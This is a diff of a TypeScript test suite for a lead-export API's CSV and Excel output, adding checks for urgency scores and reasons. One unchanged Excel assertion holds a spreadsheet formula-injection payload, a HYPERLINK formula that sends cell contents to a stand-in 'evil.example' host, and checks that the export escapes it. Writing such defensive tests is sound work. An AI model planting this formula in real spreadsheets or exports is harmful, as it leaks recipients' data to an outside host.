@@ -6,12 +6,13 @@
  */
 import http from 'node:http'
 import { EXPORT_MESSAGES, SKIPPED_SAMPLE_HEADER } from '@common/contracts/lead-export'
+import type { LeadView } from '@common/contracts/lead-view'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { leads } from '../../db/schema'
 import { tierFields } from '../../testing/factories'
 import { createTestClient, type TestClient } from '../../testing/http-client'
 import { exportCsv, exportPath, exportXlsx } from '../../testing/lead-export-test-helpers'
-import { allPages, buildLead, patchLead } from '../../testing/leads-test-helpers'
+import { allPages, buildLead, listLeads, patchLead } from '../../testing/leads-test-helpers'
 import { signInNewUser } from '../../testing/signed-in'
 import { buildTestApp, type TestApp } from '../../testing/test-app'
 
@@ -97,6 +98,7 @@ describe('bad queries', () => {
     [{ format: 'csv', status: 'sleeping' }, 'status'],
     [{ format: 'xlsx', filedFrom: '2026-05-01', filedTo: '2026-01-01' }, 'filedTo'],
     [{ format: 'csv', sort: 'name' }, 'sort'],
+    [{ format: 'csv', minUrgency: 'high' }, 'minUrgency'],
   ])('answers %j with 400 naming %s', async (query, field) => {
     const response = await pro.client.get(exportPath(query as Record<string, string>))
     expect(response.status).toBe(400)
@@ -158,6 +160,11 @@ describe('the CSV file', () => {
       County: 'Miami-Dade',
     })
     expect(ana?.['Updated (UTC)']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)
+    // Its urgency as its view shows it (issue 35): the score, and its reasons in one sentence.
+    const [view] = (await listLeads(pro.client, { tag: 'hot' })).body.leads as LeadView[]
+    expect(ana?.Urgency).toBe(String(view?.urgency.score))
+    expect(ana?.['Urgency reasons']).toBe(view?.urgency.explanation)
+    expect(ana?.['Urgency reasons']).toMatch(/; Stage: .*; equity unknown; no phone/)
     const news = await exportCsv(pro.client, { status: 'new', q: 'cold' })
     expect(news.records.map((r) => r.Defendants)).toEqual(['Ben Cold'])
     const none = await exportCsv(pro.client, { zip: '99999' })
@@ -193,6 +200,7 @@ describe('the Excel file', () => {
     expect(ana?.Amount).toBe(123456.78)
     expect(ana?.['Filing date']).toEqual(new Date('2026-02-01T00:00:00Z'))
     expect(ana?.Notes).toBe(2)
+    expect(ana?.Urgency).toBeTypeOf('number')
     const evil = records.find((r) => String(r.Defendants).includes('HYPERLINK'))
     expect(evil?.Defendants).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`)
     sheet.eachRow((row) =>
